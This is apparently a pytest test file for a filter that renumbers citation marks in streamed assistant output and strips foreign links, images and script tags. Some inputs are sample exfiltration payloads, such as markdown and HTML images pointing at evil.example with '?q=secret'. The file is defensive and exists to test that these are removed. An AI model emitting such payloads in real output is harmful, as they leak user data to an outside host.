"""Marks in a stream: whole, valid, the same however the text is cut; foreign links gone."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.marks import LONGEST_BRACKET, LONGEST_LINK, REMOVED, MarkStream

CODE = "https://github.com/a/b"


def number(mark: int) -> int | None:
    """Three sources, shown under other numbers: 1 is 4, 2 is 5, 3 is 6."""
    return mark + 3 if 1 <= mark <= 3 else None


def stream() -> MarkStream:
    return MarkStream(number, [CODE])


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        pytest.param("gains 4.3 % [1, 3].", "gains 4.3 % [4][6].", id="list"),
        pytest.param("as shown【2†L3-L5】.", "as shown[5].", id="full-width-with-lines"),
        pytest.param("in all [1-3] papers", "in all [4][5][6] papers", id="range"),
        pytest.param("in all [1–3]", "in all [4][5][6]", id="range-with-dash"),
        pytest.param("both [1][2]", "both [4][5]", id="side-by-side"),
        pytest.param("see [source 2] and [Paper 1; Paper 3]", "see [5] and [4][6]", id="words"),
        pytest.param("see [^1] [#2]", "see [4] [5]", id="footnote-and-hash"),
        pytest.param("see [[1]]", "see [4]", id="double-brackets"),
        pytest.param("yes [1][1][1].", "yes [4].", id="repeated"),
        pytest.param("yes [99].", "yes.", id="out-of-range"),
        pytest.param("yes [0] and [4] no", "yes and no", id="zero-and-one-too-many"),
        pytest.param("yes [1, 99]", "yes [4]", id="one-of-two-valid"),
        pytest.param("since [1-2024] then", "since then", id="no-range-of-marks"),
        pytest.param("cut [1", "cut", id="unclosed-at-the-end"),
        pytest.param("cut [1, 2\nnext", "cut\nnext", id="unclosed-at-the-line"),
        pytest.param("[99] Begins so.", "Begins so.", id="invalid-at-the-start"),
        pytest.param("an [aside] and x[i]", "an [aside] and x[i]", id="other-brackets"),
        pytest.param("[1](https://evil.example/?q=secret)", "[4]", id="mark-as-link"),
        pytest.param("[[2]](https://evil.example)", "[5]", id="bracketed-mark-as-link"),
        pytest.param("![chart](https://evil.example/?q=secret) done", "done", id="image"),
        pytest.param("[![a](http://i.example)](http://j.example) z", "z", id="image-in-link"),
        pytest.param("[code](https://evil.example) x", "code x", id="foreign-link"),
        pytest.param(f"[code]({CODE})", f"[code]({CODE})", id="a-sources-link"),
        pytest.param(f"Code: {CODE}.", f"Code: {CODE}.", id="a-sources-address"),
        pytest.param("See https://evil.example/x, ok", f"See {REMOVED}, ok", id="foreign-address"),
        pytest.param("See www.evil.example now", f"See {REMOVED} now", id="address-without-scheme"),
        pytest.param("[ref]: https://evil.example", f"[ref]: {REMOVED}", id="reference"),
        pytest.param("<https://evil.example>", f"<{REMOVED}>", id="autolink"),
        pytest.param('<img src="https://evil.example/?q=1"> b', "b", id="html-image"),
        pytest.param("a <script>x</script> b", "a x b", id="script"),
        pytest.param("p < 0.05 and the <image> token", "p < 0.05 and the <image> token", id="no-html"),
        pytest.param("wow! [a", "wow! [a", id="exclamation"),
    ],
)
def test_what_models_write_and_what_is_shown(written: str, shown: str) -> None:
    assert stream().whole(written) == shown
    letters = stream()
    assert "".join(letters.feed(c) for c in written) + letters.close() == shown


FRAGMENTS = st.sampled_from(
    [
        *"[]()!<>12,- /a\n【】†",
        "99",
        "http://",
        CODE,
        "www.",
        "<!--",
        "-->",
        "word",
        ". ",
        "<img",
        "[1]",
        " [3]",
        "source ",
    ]
)
TEXTS = st.lists(st.one_of(FRAGMENTS, st.text(max_size=4)), max_size=25).map("".join)


@pytest.mark.parametrize("comment", ["<!-->", "<!--->", "<!---->", "<!-- a > b -->", "<!--\n-->"])
@pytest.mark.parametrize("after", ["", "-->", " and more -->"])
def test_a_comment_goes_wherever_it_is_cut(comment: str, after: str) -> None:
    text = f"So{comment}{after}"
    for at in range(len(text)):
        cut = stream()
        assert cut.feed(text[:at]) + cut.feed(text[at:]) + cut.close() == f"So{after}"


@settings(max_examples=300, deadline=None)
@given(TEXTS, st.data())
def test_cuts_make_no_difference(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    cut = stream()
    assert "".join(cut.feed(piece) for piece in pieces) + cut.close() == stream().whole(text)


def test_a_mark_is_shown_whole_or_not_at_all() -> None:
    letters = stream()
    shown = ""
    for letter in "It gains 4 [1], and more [2, 3] than [99] others [1-2].":
        shown += letters.feed(letter)
        assert shown.count("[") == shown.count("]")
    assert shown + letters.close() == "It gains 4 [4], and more [5][6] than others [4][5]."


@pytest.mark.parametrize("extra", [-1, 0, 1, 2])
@pytest.mark.parametrize(
    ("head", "unit", "tail", "longest"),
    [("[", "1", "] x", LONGEST_BRACKET), ("<a ", "b", "> x", LONGEST_LINK), ("https://", "c", " x", LONGEST_LINK)],
)
def test_limits_are_the_same_for_a_stream(head: str, unit: str, tail: str, longest: int, extra: int) -> None:
    text = head + unit * (longest + extra - len(head)) + tail
    letters = stream()
    assert "".join(letters.feed(c) for c in text) + letters.close() == stream().whole(text)
